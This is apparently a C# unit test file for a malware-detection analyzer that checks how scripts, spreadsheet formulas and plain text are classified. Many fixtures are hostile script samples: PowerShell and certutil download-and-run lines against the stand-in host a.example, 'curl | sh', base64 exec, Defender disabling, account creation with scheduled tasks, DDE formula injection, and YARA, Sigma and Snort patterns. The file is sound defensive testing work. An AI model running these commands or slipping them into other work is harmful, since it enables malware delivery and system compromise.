using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Scripts that come as files: by themselves, where no name tells the language, and in an archive.</summary>
public sealed class ScriptFileTests
{
    [Theory]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "a.js")]
    [InlineData("(function(){ var a = WScript.CreateObject(\"Shell.Application\"); a.ShellExecute('cmd.exe'); })();", "a.jse")]
    [InlineData("On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\", 0", "a.vbs")]
    [InlineData("Dim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://a.example/\", "
        + "False\r\nCreateObject(\"WScript.Shell\").Run y", "b.vbs")]
    [InlineData("$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://a.example/x', 'x')\r\nStart-Process x", "a.ps1")]
    [InlineData("IEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "b.ps1")]
    [InlineData("@echo off\r\npowershell -w hidden -enc SQBFAFgA", "a.bat")]
    [InlineData("POweRSheLL -NoNi -Wind HIDdeN -ec \"JAB4AD0ATgBlAHcA\"\r\n", "a.bat")]
    [InlineData("@echo off\r\ncertutil -urlcache -f http://a.example/x x.exe\r\nstart x.exe", "a.cmd")]
    [InlineData("#!/bin/sh\ncurl http://a.example/x | sh -s\n", "a.sh")]
    [InlineData("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "a.py")]
    [InlineData("#@~^XAAAAA==encoded", "a.vbe")]
    [InlineData("import base64,sys;exec(base64.b64decode(b'cHJpbnQoMSk='))", "a.py")]
    [InlineData("//some words that say nothing\n_0x1=['a'];\n_0x2=_0x1[0];\nnew ActiveXObject('WScript.Shell')['Run'](_0x2);", "a.js")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $true -Force\nIEX (New-Object Net.WebClient).DownloadString('a')", "a.ps1")]
    [InlineData("Start-BitsTransfer -Source http://a.example/x -Destination x.exe\nStart-Process x.exe", "b.ps1")]
    [InlineData("CD /D %TEMP%\r\npowershell -enc SQBFAFgA", "a.bat")]
    [InlineData("Echo Please wait now.\r\npowershell -enc SQBFAFgA", "a.bat")]
    [InlineData("If True Then\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\nEnd If", "a.vbs")]
    [InlineData("' \\begin{x}\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", "a.vbs")]
    [InlineData("rem \\begin{a}\r\npowershell -enc SQBFAFgA", "a.cmd")]
    [InlineData("/*\n```\n*/\nnew ActiveXObject('WScript.Shell').Run('calc');\n", "a.js")]
    [InlineData("<#\n\\begin{a}\n#>\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
    [InlineData("powershell -enc SQBFAFgA\n\n.. code\n```\n", "b.bat")]
    [InlineData("net user a b /add\r\nschtasks /create /tn a /tr b\r\ncertutil -urlcache -f http://a.example/x x.exe", "a.bat")]
    [InlineData("(New-Object System.Net.WebClient).DownloadFile('http://a.example/a.exe','a.exe');Start-Process 'a.exe'", "a.ps1")]
    [InlineData("[Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object Net.WebClient;"
        + "$wc.DownloadString('http://a.example/')|iex", "a.ps1")]
    [InlineData("& ((gv '*mdr*').Name[3,11,2]-join'') (New-Object Net.WebClient).DownloadString('http://a.example/')", "a.ps1")]
    [InlineData("if(''+(nslookup -q=txt a.example) -match '@(.*)@'){iex $matches[1]}", "a.ps1")]
    [InlineData("$08Q = '[DllImport(\"kernel32.dll\")] VirtualAlloc';\n$a1 = Add-Type -MemberDefinition $08Q;\n", "a.ps1")]
    [InlineData("Dim oShell\r\nSet oShell = WScript.CreateObject (\"WScript.Shell\")\r\noShell.Run \"calc\"", "a.vbs")]
    [InlineData("a = (1, this);\nfunction String.prototype.run() { return 'Shell'; }\n"
        + "b = new a[('x', 'ActiveXObject')]('WScript.' + ''.run());\n(b)['Run']('calc');\n"
        + "new ActiveXObject('WScript.Shell').Run('x');", "a.js")]
    [InlineData("certutil -urlcache -split -f http://a.example/x.exe x.exe & start x.exe", "a.bat")]
    [InlineData("iwr http://a.example/x.exe -OutFile x.exe; Start-Process x.exe", "a.ps1")]
    [InlineData("($d=$env:temp+'\\a.exe');(New-Object Net.WebClient).DownloadFile('http://a.example/a',$d);Start-Process $d", "a.ps1")]
    [InlineData("$x = irm http://a.example/x\n$x | iex\nWrite-Host done\n", "a.ps1")]
    [InlineData("Execute(Chr(77)&Chr(115)&Chr(103))", "a.vbs")]
    [InlineData("dim h:set h=createobject(\"WScript.Shell\"):h.run \"calc\"", "a.vbs")]
    [InlineData("/*@cc_on\n  @if (@_win32)\n new ActiveXObject('WScript.Shell').Run('calc');\n @end @*/", "a.js")]
    public void Complete_ScriptThatActs_IsSuspiciousByItselfAndInside(string script, string name)
    {
        var alone = Judged.Of(script);
        var inside = Judged.Of(ZipMaker.Pack((name, script)));

        alone.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(alone));
        inside.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(inside));
    }

    [Theory]
    [InlineData("function Get-It {\n  Start-Process calc\n}\nGet-It\n", "script.runs-commands")]
    [InlineData("if([IntPtr]::Size -eq 4){$b='powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo", "script.runs-commands")]
    [InlineData("$s = Get-ADComputer -Filter *\nInvoke-Command -ComputerName $s -ScriptBlock { Get-Process }\n", "script.runs-commands")]
    [InlineData("$a = Get-Date\n[System.Reflection.Assembly]::LoadWithPartialName('System.Web')\nWrite-Host $a\n", null)]
    [InlineData("$f = (New-Object -ComObject Shell.Application).Namespace('shell:Downloads').Self.Path\nWrite-Host $f\n", null)]
    [InlineData("# A script of PowerShell\n$a = Invoke-RestMethod https://a.example/v1\nWrite-Host $a\n", "script.downloads")]
    [InlineData("$t = @(\n@{ Script = 'Get-It | Format-List'; On = 'powershell.exe | more' }\n)\nWrite-Host $t\n", null)]
    public void Complete_ScriptOfAnAdministrator_IsDescribedByItselfAndSuspiciousInside(string script, string? rule)
    {
        var alone = Judged.Of(script);

        alone.Verdict.ShouldBe(Verdict.Unable, Judged.Text(alone));
        alone.Rules().Where(found => found != "script.language").ShouldBe(rule is null ? [] : [rule]);
        alone.Gaps().ShouldBe(["not-judged"]);
        Judged.Of(ZipMaker.Pack(("a.ps1", script))).Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Theory]
    [InlineData("/*", "*/\n")]
    [InlineData("//", "\n")]
    public void Complete_ScriptBehindALongComment_IsAScript(string start, string end)
    {
        var script = start + new string('c', 600_000) + end + "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n";

        var report = Judged.Of(script);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Suspicious, "text/javascript"), Judged.Text(report));
    }

    [Theory]
    [InlineData("name: build\ndescription: 'Runs it'\njobs:\n  - run: |\n"
        + "      [Net.ServicePointManager]::X = 1\n      (New-Object Net.WebClient)\n")]
    [InlineData("<component name=\"ProjectCodeStyleConfiguration\">\n  <state><option name=\"A\" value=\"B\" /></state>\n</component>")]
    [InlineData("<component type=\"desktop-application\"><id>org.example.App</id><name>App</name></component>")]
    [InlineData("rundll32 is a program of Windows")]
    [InlineData("$5 (five dollars)\n$10 = ten dollars\n$20 | twenty\n")]
    [InlineData("a::selection { color: red }\n::selection { color: blue }\n")]
    [InlineData("/* a style sheet */\nbody { margin: 0 }\n")]
    public void Complete_TextThatOnlyLooksLikeAScript_IsClean(string text) =>
        Judged.Of(text).Verdict.ShouldBe(Verdict.Clean, Judged.Text(Judged.Of(text)));

    [Fact]
    public void Complete_BatchFileThatHidesDataInAComment_IsAScript() =>
        Judged.Of("::" + new string('A', 400) + "\r\nset \"a=b\"\r\nexit\r\n").MediaType.ShouldBe("application/x-bat");

    [Fact]
    public void Complete_PageThatBeginsWithAnInput_IsAPage() =>
        Judged.Of($"\r\n\t<input id='a' value='{new string('A', 9000)}'><script>eval(unescape('%61'))</script>").MediaType
            .ShouldBe("text/html");

    [Theory]
    [InlineData("function add(a, b) { return a + b; }\nvar c = add(1, 2);\n", "text/javascript")]
    [InlineData("Sub Main()\r\nDim x\r\nx = 1\r\nEnd Sub", "text/vbscript")]
    [InlineData("@echo off\r\ndir\r\n", "application/x-bat")]
    [InlineData("#!/bin/bash\necho hello\n", "text/x-shellscript")]
    [InlineData("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n\"a\"=\"b\"\r\n", "text/x-ms-regedit")]
    public void Complete_OtherScript_IsDescribedAndNeverClean(string script, string mediaType)
    {
        var report = Judged.Of(script);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Unable, mediaType), Judged.Text(report));
        report.Rules().ShouldContain("script.language");
    }

    [Fact]
    public void Complete_WideTextWithAFileInIt_SaysTheSameHoweverItIsCut()
    {
        var text = Encoding.Unicode.GetBytes("\uFEFFDim a\r\nDim b\r\n" + new string(' ', 2500));

        Judged.Of([.. text, .. Encoding.Unicode.GetBytes("Rar!\u001A\u0007\u0001\0"), .. new byte[40]]).Rules()
            .ShouldContain("script.language");
    }

    [Theory]
    [InlineData("a,b\n$R[]{A,copyRowHeight=true},,F3\n$R[]{A,copyRowHeight=true},,F4\n$5.00,c\n")]
    [InlineData("A letter about PowerShell: write Invoke-WebRequest and Start-Process, or IEX(New-Object Net.WebClient).DownloadString.\n")]
    [InlineData("name,amount\r\nA,1\r\nB,2\r\n")]
    [InlineData("{\"a\": 1}")]
    [InlineData("From here on we go.\nTo be or not to be.\n")]
    [InlineData("Only one line")]
    [InlineData("# How to\n\n```js\n'use strict';\nrequire('child_process').exec('ls');\n```\n")]
    [InlineData("rule A : b {\n  meta:\n    a = \"x\"\n  strings:\n    $a = \"powershell -enc\"\n    $b = \"eval(unescape(\"\n"
        + "  condition: any of them\n}\n")]
    [InlineData("import \"pe\"\n\nprivate rule A\n{\n strings:\n  $s = \"IEX(New-Object Net.WebClient)\"\n condition: $s\n}\n")]
    [InlineData("title: a\nlogsource:\n  product: windows\ndetection:\n  s:\n    c:\n      - \"powershell -enc\"\n  condition: s\n")]
    [InlineData("alert tcp $A any -> $B any (msg:\"a\"; content:\"eval(atob(\"; content:\"WScript.Shell\"; sid:1;)\n")]
    [InlineData("# Install\n\n    powershell -c \"iwr https://a.example/a.ps1 | iex\"\n    curl https://a.example/a.sh | sh\n")]
    [InlineData("Please never run this:\npowershell -enc SQBFAFgA\nor open what mshta gives you.\n")]
    [InlineData("Usage\n=====\n\n.. code-block:: bat\n\n   @echo off\n   powershell -enc x\n")]
    [InlineData("\\begin{lstlisting}\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n\\end{lstlisting}\n")]
    [InlineData("# Guide\n\n* First (see above)\n  ```sh\n  powershell -ExecutionPolicy ByPass -c \"irm https://a.example/a.ps1 "
        + "| iex\"\n  ```\n")]
    [InlineData("map x =cmd | pipe\n")]
    [InlineData("/* A header. */\n#ifndef A_H\n#define A_H\nextern const char *const a;\nclass A {\n};\nclass B {\n};\n#endif\n")]
    [InlineData("// 'use strict'\nusing System;\nnamespace A;\nclass B {\n  void C() { var d = 1;\n  var e = 2; }\n};\n")]
    [InlineData("#![no_std]\nuse std::fs;\nfn main() {\nlet a = 1;\nlet b = 2;\n};\n")]
    [InlineData("all: a\n\t$(CC) -o a a.c\n$(A) $(B)\n$(C) = d\n")]
    [InlineData("[main]\nname = value\nother = 2\n")]
    [InlineData("See (above) and below\n")]
    public void Complete_PlainText_IsClean(string text)
    {
        var report = Judged.Of(text);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Clean, "text/plain"), Judged.Text(report));
    }

    [Theory]
    [InlineData("name\r\n=cmd|' /C calc'!A0\r\n", "text.dde-formula")]
    [InlineData("a;b\n@SUM(1+1)*cmd|' /C calc'!A0\n", "text.dde-formula")]
    [InlineData("ID;PWXL;N;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC(\"calc\")\r\nE\r\n", "text.sheet-macro")]
    [InlineData("WEB\r\n1\r\nhttp://a.example/\r\n", "text.web-query")]
    public void Complete_TableThatActs_IsSuspicious(string text, string rule)
    {
        var report = Judged.Of(text);

        report.Rules().ShouldContain(rule);
        report.Verdict.ShouldBe(Verdict.Suspicious);
    }

    /// <summary>Nobody parses these; a script is never clean for that.</summary>
    [Theory]
    [InlineData("eval(", "(", ")")]
    [InlineData("var a = ", "[", "]")]
    public void Complete_ScriptThatNestsEndlessly_IsUnable(string start, string open, string close)
    {
        const int deep = 100_000;
        var nested = string.Concat(Enumerable.Repeat(open, deep)) + "1" + string.Concat(Enumerable.Repeat(close, deep));

        Judged.Of($"{start}{nested})").Verdict.ShouldBe(Verdict.Unable);
    }

    [Theory]
    [InlineData("#@~^AAAAAA==ab!c==^#~@\0", Verdict.Suspicious)]
    [InlineData("Only a text.\r\n\0\0\0", Verdict.Clean)]
    [InlineData("Only a text.\r\n\0\0a", Verdict.Unable)]
    [InlineData("\0\0\0", Verdict.Unable)]
    public void Complete_TextFilledUpWithZeros_IsText(string text, Verdict verdict)
    {
        Judged.Of(text).Verdict.ShouldBe(verdict);
        Judged.Of(text + new string(text[^1], 10_000)).Verdict.ShouldBe(verdict);
    }

    [Fact]
    public void Complete_BinaryBehindAText_IsNoText()
    {
        var report = Judged.Of([.. Samples.Bytes(new string('a', 10_000)), 1, 2, 3]);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Unable, "application/octet-stream"));
    }
}
